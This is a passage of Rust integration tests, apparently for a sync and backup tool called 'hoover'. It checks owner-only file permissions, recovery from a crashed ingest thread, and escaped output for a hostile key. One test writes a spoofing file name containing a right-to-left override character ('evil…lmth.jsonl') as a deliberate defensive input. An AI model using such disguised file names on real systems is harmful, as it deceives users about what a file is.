        o.store = store.clone();
        o.host_key = world_host_key(o);
    });
    let root = world.path().join("projects");
    write_tree(&root);
    let run = |args: &[&str]| {
        let mut cmd = std::process::Command::new(&wrapper);
        world.client_home.apply(&mut cmd);
        cmd.args(args)
            .args(["--server", &world.server_addr()])
            .output()
            .unwrap()
    };
    let out = run(&["sync", "--root", &format!("c={}", root.display())]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let restored = world.path().join("restored.jsonl");
    let key = format!("{}/c/p/a.jsonl", hoover_host_source(&world));
    let out = run(&["restore", &key, "-o", restored.to_str().unwrap()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(open_to_others(&store), vec![], "store");
    assert_eq!(open_to_others(&restored), vec![], "restored file");
    let client_data = world.client_home.dir.join(".local/share/hoover");
    assert!(client_data.exists());
    assert_eq!(open_to_others(&client_data), vec![], "client state");
    let host_key = world.server_home.dir.join("loose_host_key");
    assert_eq!(open_to_others(&host_key), vec![], "host key");

    // A store made before this change (0755) is closed on its next open.
    world.server.kill();
    std::fs::set_permissions(&store, std::fs::Permissions::from_mode(0o755)).unwrap();
    world.restart_server_with(|o| {
        o.store = store.clone();
        o.host_key = world_host_key(o);
    });
    assert_eq!(open_to_others(&store), vec![], "an old store reopened");
    hoover_testkit::report(
        env!("CARGO_TARGET_TMPDIR"),
        "owner_only",
        serde_json::json!({
            "store_entries_checked": walkdir::WalkDir::new(&store).into_iter().count(),
            "open_to_others": 0,
        }),
    );
}

fn world_host_key(o: &hoover_testkit::ServerOptions) -> std::path::PathBuf {
    o.home.join("loose_host_key")
}

/// The source a client uses when none is given: the host name.
fn hoover_host_source(world: &World) -> String {
    let listing = world.json(&["ls"]);
    let key = listing[0]["key"].as_str().unwrap().to_string();
    key.split('/').next().unwrap().to_string()
}

/// A bug that kills a connection's ingest thread costs that batch, not the connection or the
/// server: the commit is answered with an error, and the next batch gets a new thread. Today's
/// main polled the dead thread's channel again and panicked ("called after complete").
#[tokio::test(flavor = "multi_thread")]
async fn a_dead_ingest_thread_is_an_answer_not_a_panic() {
    let mut world = World::new(BIN);
    world.restart_server_with(|o| o.env = vec![("HOOVER_PANIC_AT".into(), "ingest-commit".into())]);
    let mut c = raw(&world).await;
    c.send(&Request::Commit).await.unwrap();
    let m = expect_error(&mut c, ErrorCode::Internal).await;
    assert!(m.contains("ingest thread stopped"), "{m}");
    // The same connection goes on, with a new ingest thread.
    expect_empty_commit(&mut c).await;
    let root = world.path().join("projects");
    write_tree(&root);
    world.ok(&["sync", "--root", &format!("c={}", root.display())]);
    world.server.wait_for_log("panic point ingest-commit");
}

/// A key is chosen by whoever pushed it, and `verify` names the key of a broken version: a
/// file name with a bidirectional override (which would make the line read other than it is)
/// is printed escaped, not acted on.
#[test]
fn verify_names_a_hostile_key_without_acting_on_it() {
    let world = World::new(BIN);
    let root = world.path().join("projects");
    std::fs::create_dir_all(root.join("p")).unwrap();
    let hostile = "evil\u{202e}lmth.jsonl";
    let line = "{\"type\":\"user\",\"message\":{\"role\":\"user\",\"content\":\"a line\"}}\n";
    std::fs::write(root.join("p").join(hostile), line.repeat(400)).unwrap();
    world.json(&["sync", "--root", &format!("c={}", root.display())]);
    // One byte of the pack, inside the file's frame, is damaged on the disk.
    let mut packs = Vec::new();
    for shard in std::fs::read_dir(world.server.store.join("packs")).unwrap() {
        for pack in std::fs::read_dir(shard.unwrap().path()).unwrap() {
            packs.push(pack.unwrap().path());
        }
    }
    assert_eq!(packs.len(), 1, "{packs:?}");
    let mut bytes = std::fs::read(&packs[0]).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 0x40;
    std::fs::write(&packs[0], &bytes).unwrap();

    let out = world.run(&["verify", "--store", world.server.store.to_str().unwrap()]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{stdout}");
    assert!(stdout.contains("evil\\u{202e}lmth.jsonl"), "{stdout}");
    assert!(!stdout.contains('\u{202e}'), "{stdout}");
    assert!(!String::from_utf8_lossy(&out.stderr).contains('\u{202e}'));
}
